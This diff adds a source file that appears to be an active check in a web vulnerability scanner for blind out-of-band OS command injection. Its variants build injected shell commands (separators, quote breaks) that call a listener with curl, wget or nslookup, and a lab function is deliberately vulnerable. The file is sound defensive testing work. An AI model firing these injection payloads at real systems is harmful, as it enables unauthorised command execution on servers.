@@ -1,0 +1,92 @@
+import type { OutsideNames } from '../../../oracle/outside.ts';
+import { at, definePointCheck, type LabTools, type Nonce } from '../../define-active-check.ts';
+import { quoteForShell, runShell } from '../../labs/shell.ts';
+
+/** How a command of our own gets beside the one that is run. */
+interface Variant {
+  separate(command: string): string;
+  system: 'unix' | 'windows';
+}
+
+const ATTACK = 'command that calls our listener by a number that it computes';
+
+/** Only a shell multiplies: whoever just follows addresses calls us without the product. */
+const COMMANDS = {
+  unix(url: string, host: string | null, sum: string) {
+    const product = `$((${sum}))`;
+    const lookUp = host === null ? '' : `||nslookup ${product}.${host}`;
+    return `curl -s -m 5 ${url}/${product}||wget -q -T 5 -O - ${url}/${product}${lookUp}`;
+  },
+  windows: (url: string, _host: string | null, sum: string) =>
+    `for /f %i in ('set /a ${sum}') do curl -s -m 5 ${url}/%i`,
+};
+
+const productOf = ({ numbers: [a, b] }: Nonce) => String(a * b);
+
+function commandOf({ system }: Variant, { word, numbers: [a, b] }: Nonce, outside: OutsideNames): string {
+  return COMMANDS[system](outside.urlFor(word), outside.hostFor(word), `${a}*${b}`);
+}
+
+/** At once outside of quotes, in single and in double ones: what follows is a comment in each. */
+const inAnyQuotes = (sign: string) => (command: string) =>
+  ['', "'", '"'].map((quote) => `${quote}${sign}${command} #`).join('');
+
+const unix = (separate: Variant['separate']): Variant => ({ separate, system: 'unix' });
+
+export default definePointCheck<Variant>({
+  id: 'command-injection-oob',
+  flaw: { name: 'command-injection', rank: 2 },
+  title: 'OS command injection (blind, out-of-band)',
+  cwe: 78,
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
+  why: 'The value becomes part of a shell command. An attacker runs arbitrary programs on the server with the privileges of the application. A command in the value multiplied two numbers and called our listener with the product.',
+  fix: 'Start programs without a shell and pass the value as a separate argument (execFile, subprocess with a list). Validate it against an allowlist. Prefer a library to an external program.',
+  references: [
+    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
+    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/12-Testing_for_Command_Injection',
+    'https://cwe.mitre.org/data/definitions/78.html',
+  ],
+  risk: 'harmless',
+  depth: 'STANDARD',
+  locations: ['query', 'path', 'form', 'json', 'multipart', 'fileName', 'graphql', 'cookie', 'header'],
+  appliesTo: () => true,
+  needsOutside: true,
+  variants: [
+    unix(inAnyQuotes(';')),
+    unix((command) => `$(${command})`),
+    unix(inAnyQuotes('\n')),
+    unix(inAnyQuotes('|')),
+    { separate: (command) => `&${command}&"&${command}&"`, system: 'windows' },
+  ],
+  maxRequests: 9,
+  proof: {
+    plan(point, variant, nonce, { outside }) {
+      if (!outside) return [];
+      const value = `${point.parameter.value}${variant.separate(commandOf(variant, nonce, outside))}`;
+      return [at(point, ATTACK, value, { calling: { tag: nonce.word, kind: 'http' } })];
+    },
+    judge(answers, _variant, nonce) {
+      const heard = answers.get(ATTACK)?.heard ?? [];
+      if (heard.some(({ detail }) => detail === productOf(nonce))) return 'PROVED';
+      // Somebody has followed the address as it was written.
+      return heard.length > 0 ? 'REFUTED' : 'VOID';
+    },
+  },
+  lab(tools?: LabTools) {
+    const send = async (command: string) => {
+      for (const url of runShell(`curl() { for url in "$@"; do :; done; echo "$url"; }\n${command}`).output.split(
+        '\n',
+      )) {
+        await tools?.get(url);
+      }
+      return { status: 202, body: 'Thank you' };
+    };
+    return {
+      location: 'form',
+      parameter: 'address',
+      value: 'alice@shop.test',
+      vulnerable: (value) => send(`true '${value}'`),
+      safe: (value) => send(`true ${quoteForShell(value)}`),
+    };
+  },
+});
